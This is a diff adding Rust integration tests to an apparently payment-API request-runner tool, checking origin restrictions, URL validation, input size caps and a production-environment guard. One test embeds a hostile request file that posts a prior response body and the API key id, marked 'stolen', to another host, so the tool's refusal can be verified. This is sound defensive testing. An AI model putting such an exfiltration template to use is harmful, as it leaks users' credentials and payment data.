@@ -300,3 +300,149 @@ async fn a_line_break_captured_into_a_header_names_the_header_and_the_variable()
     assert!(!err.contains("invalid URL"), "{err}");
     running.shutdown().await;
 }
+
+#[tokio::test]
+async fn a_files_own_authorization_line_does_not_open_the_way_to_another_host() {
+    let running = sim::spawn(SocketAddr::from(([127, 0, 0, 1], 0)), SimConfig::default())
+        .await
+        .expect("sim");
+    let (other, seen) = elsewhere().await;
+    let file = format!(
+        "### r1\n# @name r1\nGET {{{{baseUrl}}}}/v1/{{{{merchantId}}}}/services/testconnection\n\n\
+         ### out\nPOST {other}/collect?k={{{{apiKeyId}}}}\nAuthorization: x\nContent-Type: application/json\n\n{{\"stolen\": {{{{r1.response.body}}}}}}\n"
+    );
+    let base = running.base_url();
+    let out = cinspect(&["run", "{file}", "--base-url", &base], &file, None).await;
+    let err = stderr(&out);
+    assert_eq!(out.status.code(), Some(2), "{err}");
+    assert!(err.contains("not to the sim environment's origin"), "{err}");
+    assert!(seen.lock().expect("lock").is_empty(), "nothing reached it");
+    // Allowed: it goes, with its own Authorization, and nothing of the integrator's.
+    let out = cinspect(
+        &[
+            "run",
+            "{file}",
+            "--base-url",
+            &base,
+            "--allow-origin",
+            &other,
+        ],
+        &file,
+        None,
+    )
+    .await;
+    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
+    let seen = seen.lock().expect("lock").clone();
+    assert_eq!(seen.len(), 1);
+    let names: Vec<&str> = seen[0].iter().map(|(n, _)| n.as_str()).collect();
+    assert!(!names.contains(&"x-gcs-servermetainfo"), "{names:?}");
+    running.shutdown().await;
+}
+
+#[tokio::test]
+async fn a_base_url_that_is_not_a_url_is_refused_not_signed_for() {
+    let (other, seen) = elsewhere().await;
+    let url = format!("{other}/v1/1234/payments");
+    for base in ["localhost:7878", "http://localhost:78780"] {
+        let out = cinspect(
+            &["run", "{file}", "--base-url", base],
+            &format!("GET {url}\n"),
+            None,
+        )
+        .await;
+        let err = stderr(&out);
+        assert_eq!(out.status.code(), Some(2), "{base}: {err}");
+        assert!(
+            err.contains("is not an http:// or https:// URL"),
+            "{base}: {err}"
+        );
+    }
+    let config = "[environments.dev]\nbase_url = \"http://localhost:78780\"\nmerchant_id = \"1\"\napi_key_id = \"k\"\nsecret_env = \"LIVE_SECRET\"\n";
+    let out = cinspect(
+        &["run", "{file}", "--env", "dev"],
+        &format!("GET {url}\n"),
+        Some(config),
+    )
+    .await;
+    assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
+    assert!(
+        seen.lock().expect("lock").is_empty(),
+        "nothing signed went anywhere"
+    );
+}
+
+#[tokio::test]
+async fn sixty_thousand_names_without_a_value_are_counted_not_each_compared() {
+    let refs: String = (0..60_000).map(|i| format!("{{{{u{i}}}}}")).collect();
+    let file = format!(
+        "POST /v1/{{{{merchantId}}}}/payments\n\n{{\"x\": \"{{{{a}}}}\"}}\n\n###\n@a = {refs}\n"
+    );
+    let out = cinspect(&["run", "{file}"], &file, None).await;
+    let err = stderr(&out);
+    assert_eq!(out.status.code(), Some(2), "{err}");
+    assert!(err.contains("{{u0}}, {{u1}}"), "{err}");
+    assert!(err.contains("and 59980 more"), "{err}");
+}
+
+#[tokio::test]
+async fn a_huge_id_from_a_response_is_not_carried_into_later_requests() {
+    let big = Box::leak(
+        format!("{{\"payment\": {{\"id\": \"{}\"}}}}", "A".repeat(2_000)).into_boxed_str(),
+    );
+    let (other, _) = answering(big).await;
+    let file = format!(
+        "POST {other}/v1/1/payments\nContent-Type: application/json\n\n{{}}\n\n###\nPOST {other}/v1/1/payments/{{paymentId}}/cancel\n"
+    );
+    let out = cinspect(
+        &["run", "{file}", "--allow-origin", &other, "--json"],
+        &file,
+        None,
+    )
+    .await;
+    let stdout = String::from_utf8_lossy(&out.stdout);
+    assert_eq!(out.status.code(), Some(3), "{stdout} {}", stderr(&out));
+    assert!(stdout.contains("{paymentId}"), "not filled: {stdout}");
+}
+
+#[tokio::test]
+async fn send_to_the_default_production_environment_asks_for_its_name() {
+    let config = "environment = \"live\"\n[environments.live]\nbase_url = \"http://127.0.0.1:9\"\nproduction = true\nmerchant_id = \"1\"\napi_key_id = \"k\"\nsecret_env = \"LIVE_SECRET\"\n";
+    let out = cinspect(
+        &[
+            "send",
+            "--method",
+            "POST",
+            "--path",
+            "/v1/{merchantId}/payments",
+            "--body",
+            "{file}",
+        ],
+        "{}",
+        Some(config),
+    )
+    .await;
+    let err = stderr(&out);
+    assert_eq!(out.status.code(), Some(2), "{err}");
+    assert!(err.contains("PRODUCTION") && err.contains("--env"), "{err}");
+}
+
+#[tokio::test]
+async fn endless_bodies_and_secrets_are_read_up_to_a_cap() {
+    for args in [
+        &[
+            "send",
+            "--method",
+            "POST",
+            "--path",
+            "/v1/1/x",
+            "--body",
+            "/dev/zero",
+        ][..],
+        &["locate", "--body", "/dev/zero", "a.b"],
+    ] {
+        let out = cinspect(args, "", None).await;
+        let err = stderr(&out);
+        assert_eq!(out.status.code(), Some(2), "{args:?}: {err}");
+        assert!(err.contains("more than 64 MB"), "{args:?}: {err}");
+    }
+}
